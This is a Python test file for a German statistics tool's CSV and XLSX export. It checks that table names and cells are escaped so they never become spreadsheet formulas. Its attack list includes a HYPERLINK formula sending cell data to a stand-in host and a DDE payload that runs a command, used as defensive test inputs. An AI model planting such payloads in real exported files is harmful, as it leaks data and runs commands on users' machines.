"""Tables as files: what programs and spreadsheets read, and that no name becomes a formula."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from kennzahlen.auskunft.ausgabe import als_csv, als_xlsx
from kennzahlen.auskunft.darstellung import wertzelle
from kennzahlen.auskunft.reihen import Wert
from kennzahlen.formeln import GRUND_TEXT, Grund
from zielsystem.tabellentext import unschaedlich
from zielsystem.ui.rows import Spalte, Tabelle, Zelle

ANGRIFFE = (
    '=HYPERLINK("http://boese.example/?"&A1;"Klick")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
)
TABELLE = Tabelle(
    "K2 im Vergleich",
    [Spalte("Einheit", kopf=True), Spalte("Juli 2026", zahl=True), Spalte("Fälle", zahl=True), Spalte("Monat")],
    [
        [Zelle("Köln", url="/x/"), Zelle("24,1\u202f%", roh=0.2412345678), Zelle("1.234", roh=1234), "Juli 2026"],
        [Zelle("Bonn"), Zelle("–", hinweis="geheim"), Zelle("1,50\u202f€", roh=Decimal("1.5")),
         Zelle("Juli 2026", roh=date(2026, 7, 1))],
        [Zelle("Bremen"), Zelle("−1,0\u202f%", roh=-0.01), Zelle("0", roh=0), ""],
    ],
    hinweis="Gerundet.",
)  # fmt: skip


def zeilen(datei: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(datei.decode(), newline=""), delimiter=";"))


def test_a_csv_is_for_programs() -> None:
    assert zeilen(als_csv(TABELLE)) == [
        ["Einheit", "Juli 2026", "Fälle", "Monat", "Juli 2026: Hinweis"],
        ["Köln", "0.241235", "1234", "Juli 2026", ""],
        ["Bonn", "", "1.5", "2026-07", "geheim"],
        ["Bremen", "-0.01", "0", "", ""],
    ]


def test_a_workbook_has_real_figures_and_says_where_they_come_from() -> None:
    mappe = load_workbook(io.BytesIO(als_xlsx(TABELLE, [("Stand", "20.11.2026")])))
    zahlen, herkunft = mappe["Zahlen"], mappe["Herkunft"]
    assert [zelle.value for zelle in zahlen[2]] == ["Köln", 0.241235, 1234, "Juli 2026", None]
    assert (zahlen["B2"].number_format, zahlen["C2"].number_format) == ("0.0%", "#,##0")
    assert (zahlen["B3"].value, zahlen["C3"].value, zahlen["E3"].value) == (None, 1.5, "geheim")
    assert zahlen["B4"].value == -0.01
    assert [tuple(z.value for z in zeile) for zeile in herkunft] == [
        ("Tabelle", "K2 im Vergleich"),
        ("Stand", "20.11.2026"),
        ("Hinweis", "Gerundet."),
    ]


@pytest.mark.parametrize("angriff", ANGRIFFE)
def test_a_name_never_becomes_a_formula(angriff: str) -> None:
    tabelle = Tabelle(angriff, [Spalte(angriff)], [[Zelle(angriff, hinweis=angriff)]], hinweis=angriff)
    for zeile in zeilen(als_csv(tabelle)):
        assert all(feld.startswith("'") for feld in zeile)
    for blatt in load_workbook(io.BytesIO(als_xlsx(tabelle, [(angriff, angriff)]))):
        for zelle in (zelle for zeile in blatt for zelle in zeile if zelle.value is not None):
            assert zelle.data_type == "s"
            assert zelle.value.startswith("'") or zelle.value in ("Tabelle", "Hinweis")


@given(st.text(max_size=20))
def test_whatever_the_text_it_does_not_begin_a_formula(text: str) -> None:
    sicher = unschaedlich(text)
    assert sicher.removeprefix("'") == text.removeprefix("'")
    assert not sicher.lstrip().startswith(("=", "+", "-", "@"))
    als_xlsx(Tabelle(text, [Spalte(text)], [[text]]))


def test_ordinary_names_stay_as_they_are() -> None:
    for name in ("Köln", "Sankt Augustin", "–", "1. FC", "(leer)", ""):
        assert unschaedlich(name) == name


def test_what_is_withheld_is_a_star_on_the_page_and_empty_with_a_reason_in_files() -> None:
    zelle = wertzelle("K2", Wert(date(2026, 7, 1), None, Grund.GEHEIM, 12, 12, 0, vollstaendig=False))
    assert zelle.text == "*"
    tabelle = Tabelle("Werte", [Spalte("Einheit", kopf=True), Spalte("K2", zahl=True)], [["Bund", zelle]])
    assert als_csv(tabelle).decode().splitlines()[1] == f"Bund;;{GRUND_TEXT[Grund.GEHEIM]}"
